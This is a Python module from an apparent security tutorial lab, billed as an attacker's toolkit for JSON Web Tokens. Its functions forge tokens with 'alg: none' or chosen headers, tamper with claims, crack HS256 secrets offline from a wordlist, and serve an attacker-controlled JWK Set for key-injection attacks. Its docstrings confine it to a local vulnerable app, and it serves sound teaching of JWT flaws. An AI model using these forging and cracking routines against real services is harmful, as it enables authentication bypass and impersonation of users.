"""The attacker's toolkit of notebook 05: read, edit, forge and crack JSON Web Tokens.

Everything here works on the compact serialisation ``header.payload.signature`` (RFC 7515 §7.1) with the
standard library, because an attacker does not need the server's library to build a token - that is the
lesson. The HMAC signing is by hand on purpose (PyJWT refuses the empty and PEM keys some attacks need); it is
``jose.py``'s, which ``tests/test_jose.py`` and ``tests/test_attacks.py`` check against PyJWT for ordinary keys.

Only use it against the vulnerable twin of ``vulnerable.py`` or your own lab, on 127.0.0.1.
"""

from __future__ import annotations

import json
from importlib import resources
from typing import Any

import jwt
from aiohttp import web
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from .jose import b64url_decode, b64url_encode, hs256_sign, hs256_verify

#: The word list shipped with the package: ``tutorial_src/lab/data/wordlist.txt``, synthetic, one guess a line.
WORDLIST = "wordlist.txt"


def _json_segment(value: dict[str, Any]) -> str:
    return b64url_encode(json.dumps(value, separators=(",", ":")).encode("utf-8"))


def read_token(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """``(header, claims, signature)`` of a compact JWT, decoded without any check - anyone can do this.

    Raises:
        ValueError: the token does not have three parts, or a part is not base64url-encoded JSON.
    """
    parts = token.split(".")
    if len(parts) != 3:
        raise ValueError(f"a compact JWT has 3 parts separated by '.', this one has {len(parts)}")
    header, claims = (json.loads(b64url_decode(part)) for part in parts[:2])
    return header, claims, parts[2]


def forge_token(header: dict[str, Any], claims: dict[str, Any], key: bytes | None = None) -> str:
    """A compact JWT with any header and claims, HS256-signed with ``key``, or with an empty signature.

    Args:
        header: the JOSE header, written as given (``{"alg": "none"}``, a ``kid``, a ``jwk``…).
        claims: the payload; times are NumericDates (seconds since the epoch, UTC).
        key: the HMAC key; ``None`` leaves the signature empty (``header.payload.``).
    """
    signing_input = f"{_json_segment(header)}.{_json_segment(claims)}"
    signature = "" if key is None else hs256_sign(signing_input.encode("ascii"), key)
    return f"{signing_input}.{signature}"


def tamper(token: str, **changes: Any) -> str:
    """The same token with some claims changed and the original signature kept (which no longer matches)."""
    header_part, _, signature = token.split(".")
    _, claims, _ = read_token(token)
    claims.update(changes)
    return f"{header_part}.{_json_segment(claims)}.{signature}"


def load_wordlist() -> list[str]:
    """The candidate secrets of ``tutorial_src/lab/data/wordlist.txt``, in file order (blank lines skipped)."""
    text = (resources.files("tutorial_src.lab") / "data" / WORDLIST).read_text(encoding="utf-8")
    return [line for line in text.splitlines() if line.strip()]


def crack_hs256(token: str, candidates: list[str]) -> tuple[str, int] | None:
    """Find the HMAC secret of an HS256 token offline by trying each candidate.

    One issued token is enough: its signature is a function of the secret and of ``header.payload``, which the
    attacker can read. No request reaches the server, so no rate limit or lockout can slow this down.

    Returns:
        ``(secret, guesses)`` - the secret and how many candidates were tried - or ``None`` if none matched.
    """
    for guesses, candidate in enumerate(candidates, start=1):
        if hs256_verify(token, candidate.encode("utf-8")):
            return candidate, guesses
    return None


def new_rsa_key() -> rsa.RSAPrivateKey:
    """A fresh 2048-bit RSA private key (never printed: keys made at run time change every run)."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def public_pem(private_key: rsa.RSAPrivateKey) -> bytes:
    """The public half of ``private_key`` as PEM (SubjectPublicKeyInfo) - what a server publishes."""
    return private_key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def public_jwk(private_key: rsa.RSAPrivateKey, kid: str = "attacker") -> dict[str, Any]:
    """The public half of ``private_key`` as a JWK (RFC 7517 §4): ``{"kty": "RSA", "n", "e", "kid", "alg"}``."""
    jwk = jwt.algorithms.RSAAlgorithm.to_jwk(private_key.public_key(), as_dict=True)
    return {**jwk, "kid": kid, "alg": "RS256", "use": "sig"}


def sign_rs256(header: dict[str, Any], claims: dict[str, Any], private_key: rsa.RSAPrivateKey) -> str:
    """An RS256 token signed by PyJWT with the attacker's own key; ``header`` adds ``jwk``, ``jku``, ``kid``…"""
    return jwt.encode(claims, private_key, algorithm="RS256", headers=header)


def create_key_set_app(key_set: dict[str, Any]) -> web.Application:
    """The attacker's web server: ``GET /jwks.json`` answers ``key_set``, a JWK Set (RFC 7517 §5).

    Serve it on 127.0.0.1 only, with ``server.BackgroundServer``.
    """

    async def jwks(request: web.Request) -> web.Response:
        return web.json_response(key_set)

    app = web.Application()
    app.router.add_get("/jwks.json", jwks)
    return app
